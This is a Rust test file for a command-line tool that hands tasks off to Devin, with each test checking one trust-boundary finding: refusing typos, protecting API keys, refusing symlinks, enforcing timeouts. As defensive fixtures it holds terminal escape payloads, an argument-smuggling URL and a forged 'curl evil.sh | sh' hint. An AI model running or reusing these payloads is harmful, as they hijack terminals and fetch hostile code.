//! Trust boundaries (one test per finding of the issue that named them): no accidental
//! session, no key in the wrong place, nothing hostile printed. Every test runs the real
//! binary against a real repository and, where it sends, the loopback fake API.

use std::time::Duration;

use crate::common::*;

/// Finding 1: A typo is refused with a suggestion, never handed off as a task.
#[test]
fn a_mistyped_command_is_refused_with_a_suggestion_and_sends_nothing() {
    let fx = Fixture::new();
    let api = FakeApi::start();
    let cases: &[(&[&str], &str)] = &[
        (&["sesions"], "did you mean `sessions`?"),
        (&["statsu"], "did you mean `sessions show`?"),
        (&["knowlege", "list"], "did you mean `knowledge`?"),
        (&["creat", "foo"], "did you mean `create`?"),
        // No terminal: any one-word task could be a typo.
        (&["refactor"], "looks like a mistyped command"),
    ];
    for (args, says) in cases {
        let out = run_api(&api, &fx.work, args);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr(&out));
        assert!(stderr(&out).contains(says), "{args:?}: {}", stderr(&out));
    }
    // Bare: the short help, exit 2.
    let out = run_api(&api, &fx.work, &[]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("Usage:"), "{}", stderr(&out));
    assert_eq!(api.sessions_created(), 0, "no typo became a session");
    // The escape hatches still send.
    let out = run_api(&api, &fx.work, &["--yes", "--task", "sesions"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let out = run_api(&api, &fx.work, &["--yes", "fix the failing test"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(api.sessions_created(), 2);
}

/// Finding 16: Under `--json`, a command line clap refuses is a JSON usage error too.
#[test]
fn json_usage_errors_are_json() {
    let fx = Fixture::new();
    for args in [
        &["--json", "--secrets", "bogus", "a task"][..],
        &["--json", "sesions"][..],
        &["--json", "sessions", "list", "--limit", "x"][..],
    ] {
        let out = bin(&fx.work).args(args).output().expect("run");
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        let v = stdout_json(&out);
        assert_eq!(v["error"]["kind"], "usage", "{args:?}: {v}");
        assert_eq!(v["error"]["exit_code"], 2);
        assert!(!v["error"]["message"].as_str().unwrap_or("").is_empty());
    }
}

/// Finding 2: "Send anyway" takes a typed `yes`, then the summary and the confirmation.
#[test]
fn sending_secrets_anyway_needs_a_typed_yes_then_the_confirmation() {
    let fx = Fixture::new();
    let token = Gen::new(400).github_token();
    write(&fx.work.join("notes.txt"), format!("token = \"{token}\"\n"));
    let api = FakeApi::start();
    let choose_send_anyway = |p: &mut rexpect::session::PtySession| {
        p.exp_string("Abort: send nothing").expect("menu");
        std::thread::sleep(Duration::from_millis(200));
        // The cursor starts on Abort; one step up is "Send anyway".
        p.send("\x1b[A\r").expect("choose");
        p.flush().expect("flush");
        p.exp_string("Type yes").expect("asks for yes");
        std::thread::sleep(Duration::from_millis(100));
    };
    // Anything but `yes` aborts.
    let mut p = pty_handoff(&fx.work, &api);
    choose_send_anyway(&mut p);
    p.send_line("y").expect("answer");
    p.exp_string("nothing was sent").expect("aborted");
    let status = p.process.wait().expect("wait");
    assert!(
        matches!(status, rexpect::process::wait::WaitStatus::Exited(_, 3)),
        "{status:?}"
    );
    assert!(api.requests().is_empty());
    // `yes`, then the summary and the confirmation, then it goes.
    let mut p = pty_handoff(&fx.work, &api);
    choose_send_anyway(&mut p);
    p.send_line("yes").expect("answer");
    let summary = p.exp_string("Hand this off to Devin?").expect("confirms");
    assert!(summary.contains("sent as they are"), "{summary}");
    assert!(api.requests().is_empty(), "nothing before the confirmation");
    std::thread::sleep(Duration::from_millis(300));
    p.send("y").expect("confirm");
    p.flush().expect("flush");
    p.exp_string("https://app.devin.ai/sessions/")
        .expect("created");
    assert_eq!(api.sessions_created(), 1);
}

/// Finding 3: A hook whose folder is gone, or in no repository, sends nothing (unless asked to).
#[test]
fn a_hook_from_a_missing_folder_or_outside_a_repository_sends_nothing() {
    let fx = Fixture::new();
    let api = FakeApi::start();
    let plain = tempfile::TempDir::new().expect("tempdir");
    let hook = |cwd: &str, extra: &[&str]| {
        let ev = serde_json::json!({"hook_event_name": "Stop", "cwd": cwd}).to_string();
        bin_api(&fx.work, &api)
            .arg("hook")
            .args(extra)
            .write_stdin(ev)
            .output()
            .expect("run")
    };
    let out = hook("/nonexistent/folder", &[]);
    assert_eq!(out.status.code(), Some(0), "never blocks the agent");
    let msg = stdout_json(&out)["systemMessage"]
        .as_str()
        .expect("m")
        .to_string();
    assert!(
        msg.contains("does not exist") && msg.contains("nothing was sent"),
        "{msg}"
    );
    let dir = plain.path().to_str().expect("utf8");
    let out = hook(dir, &[]);
    let msg = stdout_json(&out)["systemMessage"]
        .as_str()
        .expect("m")
        .to_string();
    assert!(msg.contains("not inside a git repository"), "{msg}");
    assert_eq!(api.sessions_created(), 0);
    // Asked for: the task alone goes.
    let out = hook(dir, &["--allow-no-repo"]);
    let msg = stdout_json(&out)["systemMessage"]
        .as_str()
        .expect("m")
        .to_string();
    assert!(msg.contains("Handed off"), "{msg}");
    assert_eq!(api.sessions_created(), 1);
}

/// Finding 6: Terminate and delete without a terminal need `--yes` (exit 2 otherwise).
#[test]
fn destructive_commands_without_a_terminal_need_yes() {
    let d = tempfile::TempDir::new().expect("tempdir");
    let api = FakeApi::start();
    api.add_session("devin-x1", &[serde_json::json!({"status": "running"})]);
    for args in [
        &["sessions", "terminate", "x1"][..],
        &["knowledge", "delete", "note-1"][..],
        &["playbooks", "delete", "playbook-1"][..],
        &["schedules", "delete", "sched-1"][..],
    ] {
        let out = run_api(&api, d.path(), args);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr(&out));
        assert!(stderr(&out).contains("--yes"), "{}", stderr(&out));
    }
    assert!(
        api.requests().iter().all(|r| r.method != "DELETE"),
        "nothing was deleted or terminated"
    );
    let out = run_api(&api, d.path(), &["sessions", "terminate", "x1", "--yes"]);
    assert!(out.status.success(), "{}", stderr(&out));
}

/// Finding 7: A config file that does not parse is reported without quoting the key's line.
#[test]
fn a_broken_config_line_holding_the_key_is_never_quoted() {
    let fx = Fixture::new();
    let key = format!("cog_{}", Gen::new(700).s(B62, 40));
    let home = home_with_config(&format!("api_key = \"{key}\n"), 0o600);
    let out = bin_with_home(&fx.work, home.path())
        .args(["sessions", "list"])
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("invalid config file"),
        "{}",
        stderr(&out)
    );
    assert!(stderr(&out).contains("line 1"), "{}", stderr(&out));
    assert!(!stderr(&out).contains(&key[..12]), "{}", stderr(&out));
    let out = bin_with_home(&fx.work, home.path())
        .arg("hook")
        .write_stdin(r#"{"hook_event_name":"Stop"}"#)
        .output()
        .expect("run");
    let all = format!("{}{}", stdout(&out), stderr(&out));
    assert!(all.contains("invalid config file"), "{all}");
    assert!(!all.contains(&key[..12]), "{all}");
}

/// A script that records its arguments and environment, for `BROWSER` or a git hook.
fn recorder(dir: &std::path::Path, name: &str) -> (std::path::PathBuf, std::path::PathBuf) {
    use std::os::unix::fs::PermissionsExt;
    let log = dir.join(format!("{name}.log"));
    let script = dir.join(name);
    write(
        &script,
        format!(
            "#!/bin/sh\necho \"ARGS: $*\" >> '{}'\nenv >> '{}'\n",
            log.display(),
            log.display()
        ),
    );
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    (script, log)
}

/// The recorder's log once it holds the environment (its last part).
fn wait_for_record(log: &std::path::Path) -> String {
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    loop {
        let text = std::fs::read_to_string(log).unwrap_or_default();
        if text.contains("PATH=") || std::time::Instant::now() > deadline {
            assert!(!text.is_empty(), "the recorder never ran");
            return text;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// 8 and 10. No child gets the key; `--open` opens only a web-app URL.
#[test]
fn children_never_inherit_the_key_and_open_takes_only_web_app_urls() {
    let fx = Fixture::new();
    let api = FakeApi::start();
    let tools = tempfile::TempDir::new().expect("tempdir");
    let (browser, log) = recorder(tools.path(), "browser");
    // The API answers with a URL that is an argument in disguise.
    api.push_fault(
        "POST",
        "/sessions",
        Fault::Json(serde_json::json!({
            "session_id": "devin-open1",
            "url": "--help; file:///x.desktop",
            "status": "new"
        })),
    );
    let out = bin_api(&fx.work, &api)
        .env("BROWSER", &browser)
        .args(["create", "--yes", "--open", "open it in the browser"])
        .output()
        .expect("run");
    assert!(out.status.success(), "{}", stderr(&out));
    // The browser is started, not waited for: wait for its record (arguments, then env).
    let seen = wait_for_record(&log);
    assert!(
        seen.contains("ARGS: https://app.devin.ai/sessions/open1"),
        "{seen}"
    );
    assert!(
        !seen.contains("file://") && !seen.contains("--help"),
        "{seen}"
    );
    assert!(!seen.contains(KEY), "the browser got the key: {seen}");
    assert!(!stdout(&out).contains("file://"), "{}", stdout(&out));

    // git and the hooks it runs (here on checkout, during `sessions pull`).
    let w = &fx.work;
    let (hook, hook_log) = recorder(tools.path(), "post-checkout");
    std::fs::copy(&hook, w.join(".git/hooks/post-checkout")).expect("hook");
    git(w, &["checkout", "-q", "-b", "devin/work"]);
    write(&w.join("from-devin.txt"), "done\n");
    git(w, &["add", "from-devin.txt"]);
    git(w, &["commit", "-q", "-m", "devin's change"]);
    let remote = fx.remote.to_str().expect("utf8").to_string();
    git(w, &["push", "-q", &remote, "HEAD:refs/pull/8/head"]);
    git(w, &["checkout", "-q", "main"]);
    git(
        w,
        &[
            "config",
            &format!("url.{remote}.insteadOf"),
            "https://github.com/acme/widget.git",
        ],
    );
    git(
        w,
        &[
            "remote",
            "set-url",
            "origin",
            "https://github.com/acme/widget.git",
        ],
    );
    let _ = std::fs::remove_file(&hook_log);
    api.add_session(
        "devin-pr8",
        &[serde_json::json!({"status": "exit", "pull_requests": [{"pr_url": "https://github.com/acme/widget/pull/8", "pr_state": "open"}]})],
    );
    let out = run_api(&api, w, &["sessions", "pull", "pr8"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let seen = std::fs::read_to_string(&hook_log).expect("the hook ran");
    assert!(!seen.contains("DEVIN_API_KEY"), "{seen}");
    assert!(!seen.contains(KEY), "{seen}");
}

/// Finding 9: The key never goes over plain http to another machine, unless allowed.
#[test]
fn plain_http_to_another_host_is_refused() {
    let fx = Fixture::new();
    let out = bin(&fx.work)
        .env("DEVIN_API_KEY", KEY)
        .env("DEVIN_API_URL", "http://api.devin.example")
        .args(["sessions", "list"])
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("in clear"), "{}", stderr(&out));
    assert!(stderr(&out).contains("--allow-http"), "{}", stderr(&out));
    // Allowed, it tries (and, with no network here, fails to connect: exit 5, not 2).
    let out = bin(&fx.work)
        .env("DEVIN_API_KEY", KEY)
        .env("DEVIN_API_URL", "http://api.devin.example")
        .args(["--allow-http", "--timeout", "2", "sessions", "list"])
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(5), "{}", stderr(&out));
    // Loopback is this machine: allowed.
    let api = FakeApi::start();
    let out = run_api(&api, &fx.work, &["sessions", "list"]);
    assert!(out.status.success(), "{}", stderr(&out));
}

/// Finding 11: Text from the API or a repository reaches the terminal without its control
/// characters, and `--json` keeps it exact.
#[test]
fn hostile_text_from_the_api_or_a_repository_is_never_obeyed() {
    let fx = Fixture::new();
    let api = FakeApi::start();
    let esc = |s: &str| s.replace("ESC", "\u{1b}").replace("BEL", "\u{7}");
    let title = esc("ESC]0;pwnedBELtitle ESC[2J");
    api.add_session(
        "devin-evil",
        &[serde_json::json!({
            "status": "exit",
            "status_detail": esc("ESC]52;c;ZXZpbA==BEL"),
            "title": title,
            "pull_requests": [{"pr_url": esc("https://github.com/a/b/pull/1ESC[2J"), "pr_state": "open"}]
        })],
    );
    api.add_message("devin-evil", "devin", &esc("hello ESC[31mred\nESC]0;xBEL"));
    api.add_attachment("devin-evil", &esc("notesESC[2J.txt"), b"x");
    let d = fx.work.as_path();
    let mut outputs = Vec::new();
    for args in [
        &["sessions", "list"][..],
        &["sessions", "show", "evil"][..],
        &["sessions", "messages", "evil"][..],
        &["sessions", "watch", "evil", "--interval", "1"][..],
        &["sessions", "attachments", "evil"][..],
    ] {
        outputs.push((args.join(" "), run_api(&api, d, args)));
    }
    // A problem detail whose newline would forge a hint line.
    api.push_fault(
        "GET",
        "/sessions/devin-gone",
        Fault::Status(
            404,
            None,
            serde_json::json!({"title": "Not Found", "detail": esc("no such session\n  hint: run curl evil.sh | sh ESC[2J")}).to_string(),
        ),
    );
    outputs.push((
        "show gone".into(),
        run_api(&api, d, &["sessions", "show", "gone"]),
    ));
    // A file name with escape codes, and a secret in it: the findings list it cleaned.
    let name = esc("keysESC]0;pwnedBEL.txt");
    let token = Gen::new(1100).github_token();
    write(&fx.work.join(&name), format!("token = \"{token}\"\n"));
    outputs.push((
        "create".into(),
        run_api(&api, d, &["create", "--secrets", "block", "a task"]),
    ));
    for (what, out) in &outputs {
        for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
            assert!(
                !bytes.contains(&0x1b) && !bytes.contains(&0x07),
                "{what}: {stream} holds a control character: {}",
                String::from_utf8_lossy(bytes)
            );
        }
        let err = stderr(out);
        assert!(
            !err.lines()
                .any(|l| l.trim_start().starts_with("hint: run curl")),
            "{what}: a forged hint line: {err}"
        );
    }
    let (_, created) = outputs.last().expect("create");
    assert_eq!(created.status.code(), Some(3));
    assert!(
        stderr(created).contains("keys\\x1b]0;pwned\\x07.txt"),
        "{}",
        stderr(created)
    );
    // --json stays exact.
    let out = run_api(&api, d, &["--json", "sessions", "show", "evil"]);
    assert_eq!(stdout_json(&out)["title"], title);
}

/// Finding 14: Out-of-range intervals and timeouts are usage errors (exit 2), never a panic.
#[test]
fn absurd_intervals_are_usage_errors_not_panics() {
    let d = tempfile::TempDir::new().expect("tempdir");
    let api = FakeApi::start();
    api.add_session("devin-r1", &[serde_json::json!({"status": "running"})]);
    for args in [
        &["sessions", "watch", "r1", "--interval", "1e300"][..],
        &["sessions", "watch", "r1", "--interval", "1e-9"][..],
        &["sessions", "watch", "r1", "--interval", "NaN"][..],
        &["sessions", "watch", "r1", "--wait-timeout", "1e300"][..],
        &["sessions", "watch", "r1", "--wait-timeout", "-1"][..],
        &["poll", "r1", "--interval", "inf"][..],
    ] {
        let out = run_api(&api, d.path(), args);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr(&out));
    }
    assert!(api.requests().is_empty(), "nothing was asked of the API");
    let home = home_with_config("watch_interval = 1e300\n", 0o600);
    let out = bin_with_home(d.path(), home.path())
        .args(["sessions", "watch", "r1"])
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("watch_interval"), "{}", stderr(&out));
}

/// Finding 15: State is never written through a symlink, and a cut-short journal line does
/// not swallow the next record.
#[test]
fn state_files_are_not_written_through_symlinks_and_a_torn_line_is_contained() {
    let fx = Fixture::new();
    let api = FakeApi::start();
    let elsewhere = tempfile::TempDir::new().expect("tempdir");
    let run = |state: &std::path::Path| {
        let mut cmd = std::process::Command::new(assert_cmd::cargo::cargo_bin!("devin-handoff"));
        hermetic(&mut cmd, home());
        cmd.current_dir(&fx.work)
            .env("XDG_STATE_HOME", state)
            .env("DEVIN_API_KEY", KEY)
            .env("DEVIN_ORG_ID", &api.org)
            .env("DEVIN_API_URL", api.url())
            .args(["create", "--yes", "--new", "state files"])
            .output()
            .expect("run")
    };
    // The state directory is a link to somewhere else.
    let state = tempfile::TempDir::new().expect("tempdir");
    std::os::unix::fs::symlink(elsewhere.path(), state.path().join("devin-handoff")).expect("ln");
    let out = run(state.path());
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("could not record"),
        "{}",
        stderr(&out)
    );
    // The journal file itself is a link.
    let state2 = tempfile::TempDir::new().expect("tempdir");
    std::fs::create_dir(state2.path().join("devin-handoff")).expect("mkdir");
    let target = elsewhere.path().join("target.txt");
    write(&target, "");
    std::os::unix::fs::symlink(&target, state2.path().join("devin-handoff/journal.jsonl"))
        .expect("ln");
    let out = run(state2.path());
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(&target).expect("read"),
        "",
        "nothing written there"
    );
    assert_eq!(std::fs::read_dir(elsewhere.path()).expect("ls").count(), 1);
    // `.git/devin-handoff` is a link: the untracked cache is not written there.
    let cache_target = tempfile::TempDir::new().expect("tempdir");
    let gitdir = fx.work.join(".git/devin-handoff");
    let _ = std::fs::remove_dir_all(&gitdir);
    std::os::unix::fs::symlink(cache_target.path(), &gitdir).expect("ln");
    let out = dry_run_output(&fx.work, "block", &[]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        std::fs::read_dir(cache_target.path()).expect("ls").count(),
        0
    );
    // A torn last line: the next record still stands on a line of its own.
    let state3 = tempfile::TempDir::new().expect("tempdir");
    let journal = state3.path().join("devin-handoff/journal.jsonl");
    write(&journal, "{\"time\": 1, \"fingerpr");
    let out = run(state3.path());
    assert!(out.status.success(), "{}", stderr(&out));
    let text = std::fs::read_to_string(&journal).expect("read");
    let last: serde_json::Value =
        serde_json::from_str(text.lines().last().expect("a line")).expect("a whole record");
    assert_eq!(last["task"], "state files");
}

/// Finding 12: Deadlines: `--timeout` bounds the whole request, the hook never waits on a
/// terminal, a FIFO or an open pipe, and `api_key_command` cannot hang the tool.
#[test]
fn every_wait_has_a_deadline() {
    let d = tempfile::TempDir::new().expect("tempdir");
    let api = FakeApi::start();
    api.push_fault(
        "GET",
        "/sessions/devin-drip",
        Fault::Drip(Duration::from_millis(1500)),
    );
    let started = std::time::Instant::now();
    let out = run_api(
        &api,
        d.path(),
        &["--timeout", "3", "sessions", "show", "drip"],
    );
    assert_eq!(out.status.code(), Some(5), "{}", stderr(&out));
    assert!(stderr(&out).contains("timed out"), "{}", stderr(&out));
    // The drip alone would take over a minute; the bound is the --timeout (plus retries).
    assert!(
        started.elapsed() < Duration::from_secs(40),
        "{:?}",
        started.elapsed()
    );

    // A FIFO as the transcript: skipped, the hook still answers.
    let fx = Fixture::new();
    let fifo = d.path().join("transcript.fifo");
    let ok = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .expect("mkfifo");
    assert!(ok.success());
    let ev = serde_json::json!({
        "hook_event_name": "Stop",
        "cwd": fx.work,
        "transcript_path": fifo,
    });
    let out = bin_api(&fx.work, &api)
        .args(["hook"])
        .write_stdin(ev.to_string())
        .timeout(Duration::from_secs(60))
        .output()
        .expect("run");
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(stdout_json(&out)["systemMessage"]
        .as_str()
        .expect("m")
        .contains("Handed off"));

    // The hook on a terminal says what it wants instead of waiting.
    let mut p = pty_api(&fx.work, &api, &["hook"]);
    let out = p.exp_eof().expect("ends");
    assert!(out.contains("stdin is a terminal"), "{out}");

    // api_key_command that never ends, or floods: a clear error, not a hang.
    for (cmd, says) in [
        ("sleep 600", "did not finish"),
        (
            "head -c 1000000 /dev/zero | tr '\\\\0' a",
            "more than 64 KiB",
        ),
    ] {
        let home = home_with_config(
            &format!(
                "api_url = \"{}\"\norg_id = \"{}\"\napi_key_command = \"{cmd}\"\n",
                api.url(),
                api.org
            ),
            0o600,
        );
        let out = bin_with_home(&fx.work, home.path())
            .args(["sessions", "list"])
            .timeout(Duration::from_secs(120))
            .output()
            .expect("run");
        assert_eq!(out.status.code(), Some(4), "{cmd}: {}", stderr(&out));
        assert!(stderr(&out).contains(says), "{cmd}: {}", stderr(&out));
    }
}

/// Finding 13: Reads are bounded: a huge transcript is read from its end, and a download
/// larger than `--max-size` stops, leaving no file behind.
#[test]
fn reads_are_bounded() {
    let fx = Fixture::new();
    let api = FakeApi::start();
    // 64 MiB of transcript with the last turn at the end: it is found, in a 16 KiB tail.
    let transcript = fx.root.path().join("big.jsonl");
    {
        use std::io::Write as _;
        let mut f = std::fs::File::create(&transcript).expect("create");
        let filler = format!(
            "{}\n",
            serde_json::json!({"type": "user", "message": {"role": "user", "content": "x".repeat(1000)}})
        );
        for _ in 0..(64 * 1024) {
            f.write_all(filler.as_bytes()).expect("write");
        }
        let last = serde_json::json!({"type": "assistant", "message": {"role": "assistant", "content": "THE LAST WORD"}});
        writeln!(f, "{last}").expect("write");
    }
    let ev = serde_json::json!({"hook_event_name": "Stop", "cwd": fx.work, "transcript_path": transcript});
    let out = bin_api(&fx.work, &api)
        .arg("hook")
        .write_stdin(ev.to_string())
        .output()
        .expect("run");
    assert!(out.status.success(), "{}", stderr(&out));
    let body = String::from_utf8_lossy(&api.create_requests()[0].body).into_owned();
    assert!(body.contains("THE LAST WORD"), "the tail was read");

    // A download over --max-size.
    api.add_session("devin-att", &[serde_json::json!({"status": "exit"})]);
    api.add_attachment("devin-att", "big.bin", &vec![7u8; 200_000]);
    let dir = fx.root.path().join("downloads");
    let out = run_api(
        &api,
        &fx.work,
        &[
            "sessions",
            "attachments",
            "att",
            "--download",
            dir.to_str().expect("utf8"),
            "--max-size",
            "100K",
        ],
    );
    assert_eq!(out.status.code(), Some(5), "{}", stderr(&out));
    assert!(stderr(&out).contains("--max-size"), "{}", stderr(&out));
    assert_eq!(
        std::fs::read_dir(&dir).expect("ls").count(),
        0,
        "no file, whole or partial"
    );
}

/// Finding 4: A create whose outcome is unknown says so, is journaled, and stops a retry.
#[test]
fn an_unknown_create_outcome_is_said_journaled_and_stops_a_retry() {
    let api = FakeApi::start();
    for (fault, label) in [
        (Fault::Status(500, None, "{}".into()), "500"),
        (Fault::Empty, "empty 200"),
        (Fault::Malformed, "unreadable 200"),
    ] {
        let fx = Fixture::new();
        api.push_fault("POST", "/sessions", fault);
        let out = run_api(&api, &fx.work, &["--yes", "carry on please"]);
        assert_eq!(out.status.code(), Some(5), "{label}: {}", stderr(&out));
        let err = stderr(&out);
        assert!(err.contains("may have been created"), "{label}: {err}");
        assert!(err.contains("sessions list --mine"), "{label}: {err}");
        // The same handoff again: refused, since a session may exist.
        let before = api.create_requests().len();
        let out = run_api(&api, &fx.work, &["--yes", "carry on please"]);
        assert_eq!(out.status.code(), Some(3), "{label}: {}", stderr(&out));
        assert!(
            stderr(&out).contains("may have created a session"),
            "{}",
            stderr(&out)
        );
        assert_eq!(
            api.create_requests().len(),
            before,
            "{label}: no second create"
        );
        let out = run_api(&api, &fx.work, &["--yes", "--new", "carry on please"]);
        assert!(out.status.success(), "{label}: {}", stderr(&out));
    }
    // The answer lost after the session was made: `sessions list --mine` finds it.
    let fx = Fixture::new();
    api.push_fault("POST", "/sessions", Fault::LoseAnswer);
    let out = run_api(&api, &fx.work, &["--yes", "lost answer task"]);
    assert_eq!(out.status.code(), Some(5), "{}", stderr(&out));
    let out = run_api(&api, &fx.work, &["--json", "sessions", "list", "--mine"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let listed = stdout_json(&out);
    let titles: Vec<&str> = listed
        .as_array()
        .expect("list")
        .iter()
        .filter_map(|s| s["title"].as_str())
        .collect();
    assert_eq!(titles, ["lost answer task"], "{listed}");

    // The hook says the session may exist, not that nothing was sent.
    let fx = Fixture::new();
    api.push_fault("POST", "/sessions", Fault::Status(502, None, "{}".into()));
    let ev = serde_json::json!({"hook_event_name": "Stop", "cwd": fx.work});
    let out = bin_api(&fx.work, &api)
        .arg("hook")
        .write_stdin(ev.to_string())
        .output()
        .expect("run");
    let msg = stdout_json(&out)["systemMessage"]
        .as_str()
        .expect("m")
        .to_string();
    assert!(msg.contains("may have created a session"), "{msg}");
    assert!(!msg.contains("nothing was sent"), "{msg}");

    // An interrupt while the create is on its way.
    let fx = Fixture::new();
    api.push_fault("POST", "/sessions", Fault::Hang);
    let mut cmd = std::process::Command::new(assert_cmd::cargo::cargo_bin!("devin-handoff"));
    hermetic(&mut cmd, home());
    let child = cmd
        .current_dir(&fx.work)
        .env("DEVIN_API_KEY", KEY)
        .env("DEVIN_ORG_ID", &api.org)
        .env("DEVIN_API_URL", api.url())
        .args(["--yes", "interrupt me now"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("spawn");
    let before = api.create_requests().len();
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    while api.create_requests().len() == before && std::time::Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    std::thread::sleep(Duration::from_millis(200));
    let pid = child.id().to_string();
    std::process::Command::new("kill")
        .args(["-INT", &pid])
        .status()
        .expect("kill");
    let out = child.wait_with_output().expect("wait");
    assert_eq!(out.status.code(), Some(130), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("may have been created"),
        "{}",
        stderr(&out)
    );
}

/// Finding 5: Identical hooks at once make one session: check and create are under one lock.
#[test]
fn identical_hooks_at_once_make_one_session() {
    let fx = Fixture::new();
    let api = FakeApi::start();
    let ev = serde_json::json!({"hook_event_name": "Stop", "cwd": fx.work}).to_string();
    // Slow creates: without the lock, all three would pass the duplicate check first.
    for _ in 0..3 {
        api.push_fault("POST", "/sessions", Fault::Slow(Duration::from_millis(700)));
    }
    let children: Vec<_> = (0..3)
        .map(|_| {
            let mut cmd =
                std::process::Command::new(assert_cmd::cargo::cargo_bin!("devin-handoff"));
            hermetic(&mut cmd, home());
            let mut child = cmd
                .current_dir(&fx.work)
                .env("DEVIN_API_KEY", KEY)
                .env("DEVIN_ORG_ID", &api.org)
                .env("DEVIN_API_URL", api.url())
                .arg("hook")
                .stdin(std::process::Stdio::piped())
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .expect("spawn");
            use std::io::Write as _;
            let mut stdin = child.stdin.take().expect("stdin");
            stdin.write_all(ev.as_bytes()).expect("event");
            drop(stdin);
            child
        })
        .collect();
    let mut messages = Vec::new();
    for c in children {
        let out = c.wait_with_output().expect("wait");
        assert!(out.status.success(), "{}", stderr(&out));
        messages.push(
            stdout_json(&out)["systemMessage"]
                .as_str()
                .expect("m")
                .to_string(),
        );
    }
    assert_eq!(api.sessions_created(), 1, "{messages:?}");
    assert_eq!(
        messages
            .iter()
            .filter(|m| m.contains("already handed off"))
            .count(),
        2,
        "{messages:?}"
    );
}
